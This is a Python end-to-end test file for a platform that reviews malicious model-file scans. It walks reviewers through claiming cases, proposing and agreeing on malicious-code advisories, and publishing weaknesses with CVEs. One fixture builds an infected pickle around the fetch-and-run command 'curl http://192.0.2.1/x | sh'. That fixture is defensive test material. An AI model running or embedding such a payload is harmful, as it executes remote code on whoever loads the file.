"""From a flag to an MSC and from a WS to its CVE, by three people, by mouse and by keyboard."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from registry import calling, infected, person, scanned, work

from weighbridge.platform.accounts.models import User
from weighbridge.platform.advisories.models import Advisory
from weighbridge.platform.cases.models import Case

pytestmark = pytest.mark.django_db(transaction=True)
Visit = Callable[..., object]


def test_from_a_flag_to_an_msc_by_mouse(visit: Visit) -> None:
    scanned(infected("curl http://192.0.2.1/x | sh"), target="demo/infected")
    ada, bob, visitor = visit("ada"), visit("bob"), visit()

    ada.goto("/")
    ada.get_by_role("link", name="Open the queue").click()
    ada.get_by_role("link", name="Loading it starts a process").click()
    assert "runs os.system('curl" in ada.get_by_role("heading", level=1).inner_text()
    assert ada.locator("pre mark").first.inner_text() == "os.system"
    ada.get_by_role("link", name="Bytes", exact=True).click()
    row = ada.locator("tr.here")
    assert "REDUCE" in row.inner_text() and "52" in row.inner_text()
    ada.get_by_role("button", name="Claim").click()
    ada.get_by_role("button", name="Begin the analysis").click()
    assert ada.locator(".preview h3").first.inner_text().startswith("MSC-")
    ada.get_by_label("Reason").first.fill("It fetches a script and runs it.")
    ada.get_by_role("button", name="Propose malicious").click()
    assert "You proposed this, so you cannot press these buttons" in ada.content()
    assert ada.get_by_role("button", name="Agree", exact=True).is_disabled()

    bob.goto("/queue?state=proposed")
    bob.get_by_role("link", name="Loading it starts a process").click()
    assert "It fetches a script and runs it." in bob.locator(".banner pre").inner_text()
    bob.get_by_role("button", name="Agree", exact=True).click()
    bob.wait_for_selector("text=What was issued stands below")

    visitor.goto("/")
    visitor.get_by_role("link", name=re.compile(r"MSC-\d{4}-0001")).click()
    assert "This record never changes" in visitor.content()
    assert "--advisories" in visitor.locator("#check").inner_text()


def test_from_a_flag_to_an_msc_by_keyboard(visit: Visit) -> None:
    scanned(calling("textwrap", "dedent"), target="demo/odd")
    scanned(infected(), name="b.pkl", target="demo/infected")
    ada, bob = visit("ada"), visit("bob")

    ada.goto("/queue")
    ada.keyboard.press("j")
    assert "starts a process" in ada.evaluate("document.activeElement.textContent")
    ada.keyboard.press("j")
    assert "textwrap" in ada.evaluate("document.activeElement.textContent")
    ada.keyboard.press("k")
    ada.keyboard.press("Enter")
    ada.wait_for_url("**/cases/*")
    ada.keyboard.press("2")
    ada.wait_for_selector("tr.here")
    ada.keyboard.press("c")
    ada.wait_for_selector("text=It is yours now")
    ada.keyboard.press("c")
    ada.wait_for_selector("text=The analysis has begun")
    ada.keyboard.press("n")
    ada.keyboard.type("mcw: letters in a field are letters")
    ada.keyboard.press("Tab")
    ada.keyboard.press("Enter")
    ada.wait_for_selector("text=The note is kept")
    ada.keyboard.press("m")
    ada.keyboard.type("It runs a shell.")
    ada.keyboard.press("Tab")
    ada.keyboard.press("Enter")
    ada.wait_for_selector("text=a second person decides")

    bob.goto("/queue?state=proposed")
    bob.keyboard.press("j")
    bob.keyboard.press("Enter")
    bob.wait_for_selector("#proposed")
    bob.keyboard.press("a")
    bob.wait_for_selector("text=What was issued stands below")
    assert Advisory.objects.get().kind == "MSC"


def test_a_weakness_becomes_a_ws_and_gets_its_cve(visit: Visit) -> None:
    scanned(calling("textwrap", "dedent"), target="demo/odd")
    ada, visitor = visit("ada"), visit()
    ada.goto("/queue")
    for key in ("j", "c"):
        ada.keyboard.press(key)
    ada.wait_for_selector("text=It is yours now")
    ada.keyboard.press("c")
    ada.wait_for_selector("text=The analysis has begun")
    ada.keyboard.press("w")
    ada.keyboard.type("Rebuilds itself with textwrap")
    ada.wait_for_selector("#preview-weakness >> text=Rebuilds itself with textwrap")
    ada.keyboard.press("Tab")
    ada.keyboard.type("Needs a function that no model needs.")
    ada.get_by_role("button", name="Decide and reserve a WS").click()
    place = re.search(r"/advisories/WS-\d{4}-0001", ada.url)
    assert place is not None
    assert visitor.goto(place[0]).status == 404
    visitor.context.clear_cookies()
    ada.get_by_role("button", name="Publish").click()
    assert "Needs a function" in ada.content()
    ada.get_by_text("It has a CVE").click()
    ada.get_by_label("CVE", exact=True).fill("CVE-2026-12345")
    ada.get_by_role("button", name="Superseded by this CVE").click()
    visitor.goto(place[0])
    assert "It has its CVE now: CVE-2026-12345" in visitor.content()


def test_three_people_log_in_with_the_form_and_do_it_without_script(visit: Visit) -> None:
    scanned(infected(), target="demo/infected")
    for name, role in (("ada", "researcher"), ("bob", "lead"), ("eve", "reader")):
        User.objects.create_user(name, password="a long passphrase", role=role)
    people = {name: visit(java_script_enabled=False) for name in ("ada", "bob", "eve")}
    for name, page in people.items():
        page.goto("/login?next=/queue")
        page.get_by_label("Username").fill(name)
        page.get_by_label("Password").fill("a long passphrase")
        page.get_by_role("button", name="Log in").click()
    assert "You may not read the queue" in people["eve"].content()
    ada, bob = people["ada"], people["bob"]
    ada.get_by_role("button", name="Claim case").click()
    ada.get_by_role("button", name="Begin the analysis").click()
    ada.get_by_text("Weakness w").click()
    ada.get_by_role("button", name="Preview").click()
    assert "Nothing is stored yet" in ada.content() and "WS-" in ada.content()
    ada.goto(f"/cases/{Case.objects.get().pk}?tab=history")
    ada.get_by_label("Reason").first.fill("It runs a shell.")
    ada.get_by_role("button", name="Propose malicious").click()
    bob.goto("/queue?state=proposed")
    bob.get_by_role("link", name="Loading it starts a process").click()
    bob.get_by_label("Remark or reason").fill("Which model?")
    bob.get_by_role("button", name="Disagree").click()
    assert Case.objects.get().state == "in-analysis"
    bob.get_by_role("button", name="Dark").click()
    assert bob.locator("html").get_attribute("data-theme") == "dark"


def test_a_scan_is_watched_until_it_is_over(visit: Visit) -> None:
    from registry import upload

    scan = upload(person("ada"), "m.pkl", infected())
    ada = visit("ada")
    ada.goto(f"/scans/{scan.pk}")
    assert "Waiting for a worker" in ada.locator("#progress").inner_text()
    before = ada.locator("#progress").bounding_box()
    ada.wait_for_timeout(1500)
    assert ada.locator("#progress").bounding_box() == before
    work()
    ada.wait_for_selector("text=1 finding in")


def test_a_key_that_does_nothing_yet_says_why(visit: Visit) -> None:
    scanned(infected())
    ada = visit("ada")
    ada.goto("/queue")
    ada.keyboard.press("j")
    ada.keyboard.press("m")
    ada.wait_for_url("**/cases/*#m")
    told = "document.activeElement.textContent"
    ada.wait_for_function(f"{told}.includes('claim the case and begin')")


def test_the_list_of_keys_and_the_search_are_one_key_away(visit: Visit) -> None:
    ada = visit("ada")
    ada.goto("/queue")
    ada.keyboard.press("?")
    assert ada.locator("dialog#keys").is_visible()
    ada.keyboard.press("Escape")
    ada.keyboard.press("/")
    assert ada.evaluate("document.activeElement.name") == "q"
    ada.keyboard.press("Escape")
    ada.keyboard.press("Tab")
    assert ada.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
